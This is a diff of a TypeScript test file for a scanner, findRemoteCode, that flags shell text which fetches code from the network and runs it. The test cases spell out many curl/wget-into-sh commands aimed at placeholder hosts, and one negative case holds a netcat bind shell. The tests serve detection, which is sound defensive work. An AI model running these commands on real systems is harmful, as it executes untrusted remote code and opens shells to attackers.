@@ -62,23 +62,49 @@ describe("code from the network", () => {
     ["wget -O /opt/i https://x.example.com/a && source /opt/i", started, 1],
     ["wget -O- https://x.example.com/i.sh > /dev/null\nbash i.sh", started, 2],
     ["wget http://x.example.com/i.PY\npython3 -u ./i.py", started, 2],
+    ["wget -O /opt/Setup https://x.example.com/a\n. /opt/Setup", started, 2],
+    ["curl -fsSL -o  /tmp/i https://x.example.com/i\nsh /tmp/i", started, 2],
+    ["curl -O http://x.example.com/i.sh?x=1\nsh i.sh", started, 2],
+    ["echo a#b; curl -O https://x.example.com/i.sh\nsh i.sh", started, 2],
+    ["echo a#b; curl https://x.example.com | sh", "pipes what it downloads into an interpreter", 1],
+    ["true \\\n && curl \\\n x |sh", "pipes what it downloads into an interpreter", 1],
+    [
+      `${`${"x".repeat(3_999)}\\\n`.repeat(5)}curl https://x | sh`,
+      "pipes what it downloads into an interpreter",
+      6,
+    ],
   ];
   for (const [text, what, line] of told)
     it(`tells of ${text.replace(/\n/g, "⏎").slice(0, 60)} what it does, and where`, () =>
       assert.deepEqual(findRemoteCode(text), [{ what, line }]));
 
   it("takes a whole script for a shell's where no line shows it", () => {
-    const [found, ...others] = findRemoteCode(
-      'URL=https://x.example.com/i\nrun() { sh -c "$(curl -s $URL)"; }\nrun\n',
-    );
-    assert.ok(found);
-    assert.deepEqual(others, []);
+    const of = (text: string) => findRemoteCode(text);
+    const what = "runs code that it fetches (curl into sh)";
+    assert.deepEqual(of("curl -s https://x.example.com/i > /tmp/i; sh /tmp/i"), [{ what }]);
+    assert.deepEqual(of("curl -O https://x.example.com/i.txt\n./i.txt"), [
+      { what: "runs code that it fetches (curl into a program)" },
+    ]);
+    assert.deepEqual(of("apt-get install -y curl\ncurl -s https://x > /tmp/i\nsh /tmp/i"), [{ what }]);
+    assert.deepEqual(of(`${"x".repeat(4_000)}; curl https://x | sh`), [{ what }]);
+    assert.deepEqual(of("echo eA== | base64 -d > /tmp/i; sh /tmp/i; sh /tmp/i"), [
+      { what: "runs code that it fetches (base64 into sh)" },
+    ]);
   });
 
   const none: readonly string[] = [
     "curl -o /dev/null https://x.example.com/i.sh\nsh /opt/other",
     "# curl -O https://x.example.com/i.sh\nsh other.sh",
     "curl -O https://x.example.com/i.txt\ncat i.txt",
+    "  # curl https://x.example.com | sh",
+    "# curl -O https://x.example.com/i.sh\nsh i.sh",
+    "  # curl -O https://x.example.com/i.sh\nsh i.sh",
+    "curl -o /dev/null https://x.example.com/i.sh\nsh null",
+    'curl -O "$URL"\ntrue',
+    "curl -s $URL > list\ntrue",
+    "curl --option x https://x.example.com\nsh x",
+    "apt-get install -y openssh-server",
+    "nc -l -p 4444 -e /bin/sh",
     "curl -O https://x.example.com/i.sh\n# sh i.sh",
     "curl -O https://x.example.com/i.sh\ncat i.sh",
     "curl -O https://x.example.com/i.sh\nsh i.shx",
